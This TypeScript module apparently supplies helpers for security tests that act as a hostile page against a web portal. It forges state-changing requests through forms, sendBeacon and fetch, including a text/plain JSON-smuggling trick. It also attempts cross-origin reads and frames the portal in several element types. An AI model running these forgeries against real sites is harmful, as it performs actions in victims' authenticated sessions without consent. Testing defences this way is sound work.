/** The target of a hostile page: the portal's origin, and its operations with the victim's ids. */
export interface Target {
  readonly portal: string;
  readonly changes: readonly { readonly method: string; readonly path: string; readonly body: string }[];
  readonly reads: readonly string[];
}

/** Runs in a hostile page: sends every change in every way that a page has. Returns everything that it could read. */
export async function forgeChanges({ portal, changes }: Target): Promise<string[]> {
  const learnt: string[] = [];
  const attempts: Promise<unknown>[] = [];

  const submit = (path: string, enctype: string, body: string): Promise<unknown> => {
    const form = document.createElement('form');
    const frame = document.createElement('iframe');
    frame.name = `frame-${document.forms.length}`;
    Object.assign(form, { action: portal + path, method: 'post', enctype, target: frame.name });
    // In text/plain the body is the name, "=" and the value: valid JSON with one additional member.
    const input = document.createElement('input');
    Object.assign(input, { name: body.replace(/\}$/, `${body === '{}' ? '' : ','}"padding":"`), value: '"}' });
    form.append(input);
    document.body.append(form, frame);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    form.submit();
    return loaded;
  };
  const ask = async (method: string, path: string, init: RequestInit): Promise<void> => {
    const response = await fetch(portal + path, { method, ...init }).catch(() => undefined);
    if (response && response.type !== 'opaque') learnt.push(`${method} ${path}: ${response.status}`);
  };

  for (const { method, path, body } of changes) {
    if (method === 'POST') {
      for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
        attempts.push(submit(path, enctype, body));
      for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded'])
        navigator.sendBeacon(portal + path, new Blob([body], { type }));
    }
    for (const credentials of ['include', 'omit'] as const) {
      for (const type of ['application/json', 'text/plain'])
        attempts.push(ask(method, path, { body, credentials, headers: { 'Content-Type': type } }));
      if (method === 'POST') attempts.push(ask(method, path, { body, credentials, mode: 'no-cors', keepalive: true }));
    }
  }
  await Promise.all(attempts);
  return learnt;
}

/** Runs in a hostile page: tries to read in every way that a page has. Returns the result of each. */
export async function stealReads({ portal, reads }: Target): Promise<string[]> {
  const learnt: string[] = [];
  const attempts: Promise<unknown>[] = [];
  const embed = (path: string, name: string, attributes: object): Promise<unknown> => {
    const element = Object.assign(document.createElement(name), attributes);
    const ended = new Promise((resolve) => {
      element.addEventListener('error', resolve);
      element.addEventListener('load', () => {
        learnt.push(`${name}: ${path}`);
        resolve(undefined);
      });
    });
    document.body.append(element);
    return ended;
  };
  const read = async (path: string, how: string, init: RequestInit): Promise<void> => {
    const response = await fetch(portal + path, init).catch(() => undefined);
    if (response) learnt.push(`${how}: ${path} ${response.type}`);
  };
  for (const path of reads) {
    const [url, as] = [portal + path, 'stylesheet'];
    for (const credentials of ['include', 'omit'] as const) {
      attempts.push(read(path, `fetch, ${credentials}`, { credentials }));
      attempts.push(read(path, `fetch without CORS, ${credentials}`, { credentials, mode: 'no-cors' }));
    }
    attempts.push(embed(path, 'img', { src: url }), embed(path, 'script', { src: url }));
    attempts.push(embed(path, 'script', { src: url, type: 'module', crossOrigin: 'use-credentials' }));
    attempts.push(embed(path, 'link', { href: url, rel: as }), embed(path, 'video', { src: url }));
  }
  await Promise.all(attempts);
  return learnt;
}

/**
 * Runs in a hostile page: shows addresses in frames of every kind. Resolves when all frames with a load event have
 * loaded.
 */
export async function frameAll([portal, paths]: readonly [string, readonly string[]]): Promise<void> {
  const attempts: Promise<unknown>[] = [];
  for (const path of paths) {
    const url = portal + path;
    const frame = Object.assign(document.createElement('iframe'), { src: url });
    attempts.push(new Promise((resolve) => frame.addEventListener('load', resolve)));
    const [object, embed] = [document.createElement('object'), document.createElement('embed')];
    document.body.append(frame, Object.assign(object, { data: url }), Object.assign(embed, { src: url }));
  }
  await Promise.all(attempts);
}
